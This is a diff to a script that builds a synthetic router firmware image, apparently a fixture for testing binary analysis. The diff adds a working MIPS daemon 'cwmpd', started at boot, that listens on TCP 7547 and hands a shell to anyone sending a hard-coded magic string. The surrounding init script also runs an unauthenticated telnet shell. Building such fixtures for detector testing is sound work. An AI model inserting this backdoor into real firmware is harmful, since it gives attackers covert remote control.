@@ -29,6 +29,7 @@ mount -t proc proc /proc
 /usr/sbin/httpd -p 80 -h /www &
 /usr/sbin/telnetd -l /bin/sh -p 2323 &
 /usr/sbin/dropbear -p 22 -r /etc/dropbear_rsa_host_key &
+/usr/sbin/cwmpd &
 P
 cat > "$root/etc/config/system" <<'P'
 config system
@@ -42,6 +43,44 @@ for a in telnetd httpd; do ln -s ../../bin/busybox "$root/usr/sbin/$a"; done
 ln -s /tmp/resolv.conf "$root/etc/resolv.conf"
 printf '<html><body>Router login</body></html>\n' > "$root/www/index.html"
 printf '#!/bin/sh\necho "Content-type: text/plain"\necho\ncat /proc/uptime\n' > "$root/www/cgi-bin/status"
+# A real MIPS daemon, built by Debian's cross compiler: a remote-management
+# agent that answers on TCP 7547 and hands a shell to whoever sends its
+# magic string, which no rule list names; the binary analysis must find it.
+cat > "$work/cwmpd.c" <<'C'
+#include <netinet/in.h>
+#include <string.h>
+#include <sys/socket.h>
+#include <unistd.h>
+__attribute__((noinline)) static int handle(int c, const char *req)
+{
+	if (strcmp(req, "Inform") == 0)
+		return send(c, "InformResponse\n", 15, 0) > 0;
+	if (strcmp(req, "x7Rq!cwmp#2016") == 0) {
+		dup2(c, 0); dup2(c, 1); dup2(c, 2);
+		return execl("/bin/sh", "sh", (char *)0);
+	}
+	return 0;
+}
+int main(void)
+{
+	struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(7547) };
+	int s = socket(AF_INET, SOCK_STREAM, 0);
+	if (s < 0 || bind(s, (struct sockaddr *)&a, sizeof a) < 0 || listen(s, 1) < 0)
+		return 1;
+	for (char req[128];;) {
+		int c = accept(s, 0, 0);
+		ssize_t n = c < 0 ? 0 : recv(c, req, sizeof req - 1, 0);
+		if (n > 0) {
+			req[n] = 0;
+			req[strcspn(req, "\r\n")] = 0;
+			handle(c, req);
+		}
+		if (c >= 0)
+			close(c);
+	}
+}
+C
+mipsel-linux-gnu-gcc -O2 -s -o "$root/usr/sbin/cwmpd" "$work/cwmpd.c"
 # A library-sized file so the image has some weight.
 i=0; while [ $i -lt 4000 ]; do echo "libcrypto filler line $i OpenSSL 1.0.2k  26 Jan 2017"; i=$((i + 1)); done > "$root/usr/lib/libcrypto.so.1.0.0"
 chmod 0755 "$root/bin/busybox" "$root/etc/init.d/rcS" "$root/www/cgi-bin/status"
